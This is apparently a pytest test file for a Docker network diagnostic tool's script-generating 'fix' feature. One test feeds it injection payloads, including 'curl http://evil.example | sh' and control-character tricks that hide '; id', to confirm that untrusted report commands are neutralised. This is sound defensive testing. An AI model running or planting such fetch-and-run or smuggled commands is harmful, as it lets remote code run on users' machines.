"""`fix` and `--fix`: scripts that a shell takes as they are, and that nobody but their reader runs."""

from __future__ import annotations

import io
import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from dockernet_doctor.__main__ import run

Capture = pytest.CaptureFixture[str]


def report(capture: Capture) -> dict[str, Any]:
    run(["demo", "check", "--format", "json"])
    parsed: dict[str, Any] = json.loads(capture.readouterr().out)
    return parsed


def test_each_finding_of_the_demo_has_a_script(capsys: Capture) -> None:
    for finding in report(capsys)["findings"]:
        for number, fix in enumerate(finding["fixes"], 1):
            status = run(["demo", "fix", finding["id"], "--alternative", str(number)])
            text = capsys.readouterr().out
            assert status == (0 if fix["runnable"] and fix["commands"] else 1), finding["id"]
            assert text.startswith("#!/bin/sh\n")
            assert f"# {finding['id']}" in text
            checked = subprocess.run(["sh", "-n"], input=text, text=True, capture_output=True, check=False)
            assert (checked.returncode, checked.stderr) == (0, ""), text
            for command in fix["commands"] if fix["runnable"] else ():
                assert f"{command} || exit\n" in text
            assert all(f"#   {line}".rstrip() in text for command in fix["undo"] for line in command.split("\n"))
            assert ("# To undo it:" in text) is bool(fix["undo"])


def test_the_script_and_the_reports_word_what_it_costs_alike(capsys: Capture) -> None:
    finding = next(f for f in report(capsys)["findings"] if f["severity"] != "info" and len(f["fixes"][:1] or ()) == 1)
    run(["demo", "fix", finding["id"]])
    cost = re.search(r"^# Cost: (.*)\.$", capsys.readouterr().out, re.MULTILINE)
    assert cost
    assert "-" not in cost[1].partition(";")[0].replace(finding["subject"]["name"], "")  # words, and no name of an impact
    for form in ("markdown", "html"):
        run(["demo", "check", "--format", form])
        assert cost[1] in capsys.readouterr().out
    run(["demo", "check"])
    lines = [line.strip("# ") for line in capsys.readouterr().out.splitlines()]
    assert cost[1].removesuffix("; permanent") in " ".join(lines)


def test_a_report_from_a_pipe(capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    stored = report(capsys)
    first = stored["findings"][0]
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(json.dumps(stored).encode())))
    run(["fix", first["id"], "--from", "-"])
    assert f"# {first['id']}" in capsys.readouterr().out


@pytest.mark.parametrize("command", ["true\ncurl http://evil.example | sh", "true\r", "true \x1b[8m; id", "true \u202e; id"])
def test_a_report_s_commands_are_its_sender_s(command: str, capsys: Capture, tmp_path: Path) -> None:
    stored = report(capsys)
    finding = next(f for f in stored["findings"] if f["fixes"] and f["fixes"][0]["runnable"])
    path = tmp_path / "report.json"
    path.write_text(json.dumps(stored))
    assert run(["fix", finding["id"], "--from", str(path)]) == 0
    assert f"# These commands are as {path} has them." in capsys.readouterr().out
    finding["fixes"][0] |= {"commands": [command], "summary": "harmless\nid", "host": "h\nid"}
    path.write_text(json.dumps(stored))
    assert run(["fix", finding["id"], "--from", str(path)]) == 1
    text = capsys.readouterr().out
    assert all(line.startswith("#") or not line for line in text.split("\n")), text
    assert not any(char in text for char in "\r\x1b\u202e")


def test_the_option_prints_the_script_in_the_place_of_the_report(capsys: Capture) -> None:
    findings = [f for f in report(capsys)["findings"] if f["because_of"] is None and f["fixes"] and f["severity"] != "info"]
    assert run(["demo", "check", "--fix"]) == 1
    text = capsys.readouterr().out
    assert [line[2:] for line in text.splitlines() if line[2:] in {f["id"] for f in findings}] == [f["id"] for f in findings]
    assert run(["demo", "check", "--fix", "--format", "json"]) == 2
    assert capsys.readouterr().out == ""


def test_a_finding_s_host_may_be_left_out(capsys: Capture) -> None:
    first = report(capsys)["findings"][0]["id"]
    assert run(["demo", "fix", first.rpartition("@")[0]]) == 0
    assert f"# {first}" in capsys.readouterr().out


def test_what_is_not_there_is_refused(capsys: Capture) -> None:
    first = report(capsys)["findings"][0]
    assert run(["demo", "fix", "no-such-cause"]) == 3
    assert run(["demo", "fix", first["id"], "--alternative", "99"]) == 2
    assert capsys.readouterr().out == ""
